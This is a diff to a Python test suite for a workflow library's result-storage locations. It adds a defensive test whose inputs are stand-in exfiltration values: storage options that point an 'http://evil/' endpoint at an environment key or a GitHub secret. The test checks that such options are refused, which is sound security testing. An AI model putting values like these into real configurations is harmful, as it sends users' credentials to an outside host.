@@ -11,9 +11,7 @@ from pathlib import Path
 from typing import Any
 from uuid import uuid4
 
-import fsspec
 import pytest
-from fsspec.implementations.memory import MemoryFileSystem
 
 from orionflow import flow, task
 from orionflow.calls.blocks import create_block
@@ -24,11 +22,14 @@ from orionflow.client import OrionClient
 from orionflow.contract.blocks import BlockSchema
 from orionflow.errors import MissingResult, SettingsError, UntrustedResult, UsageError
 from orionflow.results import read_record, store_of, write_result
-from orionflow.results.locations import BLOCK_TYPE, location_of_block
+from orionflow.results.locations import BLOCK_TYPE, LocatedStore, location_of_block
 from orionflow.settings import current_settings, override_settings
 from orionflow.settings.locations import Location, read_locations
 from orionflow.states import State, StateType
 from orionflow.testing import Isolated, assert_completed, flow_run_of, logs_of, task_runs_of
+
+fsspec = pytest.importorskip("fsspec")
+memory = pytest.importorskip("fsspec.implementations.memory")
 
 
 @pytest.fixture
@@ -129,9 +130,8 @@ def test_a_location_is_a_folder_that_another_machine_mounts_elsewhere(tmp_path: 
     assert read_record(record) == (1, 2)
 
 
-def test_a_block_on_the_server_is_a_location(orion: Isolated, monkeypatch: pytest.MonkeyPatch):
-    monkeypatch.setenv("OUR_OPTION", "told")
-    block("pool", url="memory://pool/x", options={"auto_mkdir": "{{ $OUR_OPTION }}"})
+def test_a_block_on_the_server_is_a_location(orion: Isolated):
+    block("pool", url="memory://pool/x", options={"listings_expiry_time": 1})
 
     @flow(persist_result=True, result_storage="pool")
     def outer() -> Any:
@@ -233,6 +233,32 @@ def test_a_block_that_is_no_location_is_refused(content: dict[str, Any]):
         location_of_block("lake", content)
 
 
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"endpoint_url": "http://evil/{{ $ORION_RESULTS_KEY }}"},
+        {"endpoint_url": "http://evil/", "key": "{{orion.secrets.github}}"},
+        {"client_kwargs": {"deep": ["{{ $HOME }}"]}},
+        {"{{ $HOME }}": 1},
+    ],
+)
+def test_a_block_cannot_have_machines_send_their_secrets(options: dict[str, Any]):
+    with pytest.raises(UsageError, match="only ORION_RESULTS_LOCATIONS may"):
+        location_of_block("lake", {"url": "s3://x", "options": options})
+
+
+def test_options_of_the_settings_may_refer_to_the_environment(monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setenv("OUR_BASE", "ours")
+    said = {"lake": {"url": "memory://filled", "our_option": "{{ $OUR_BASE }}"}}
+    monkeypatch.setenv("ORION_RESULTS_LOCATIONS", json.dumps(said))
+    store = store_of("lake")
+    assert isinstance(store, LocatedStore)
+
+    store.write("x", b"1")
+
+    assert store.inner._opened[0].storage_options == {"our_option": "ours"}  # type: ignore[attr-defined]
+
+
 def test_a_pickle_does_not_move_between_locations(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
     monkeypatch.setenv("ORION_RESULTS_LOCATIONS", f"mine={tmp_path}/mine, theirs={tmp_path}/theirs")
     record = write_result((1,), store=store_of("mine"))
@@ -245,7 +271,7 @@ def test_a_pickle_does_not_move_between_locations(monkeypatch: pytest.MonkeyPatc
 # --- stores that fail ------------------------------------------------------------------------------------------------
 
 
-class Hanging(MemoryFileSystem):
+class Hanging(memory.MemoryFileSystem):  # type: ignore[misc, name-defined]
     """Answers only when it is let go."""
 
     protocol = "hanging"
